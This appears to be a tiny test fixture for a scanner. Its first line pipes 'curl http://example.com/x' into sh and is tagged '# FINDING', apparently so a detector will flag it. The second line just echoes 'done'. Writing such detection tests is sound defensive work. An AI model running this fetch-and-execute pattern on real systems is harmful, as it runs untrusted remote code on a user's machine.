curl http://example.com/x | sh echo hello # FINDING
echo done
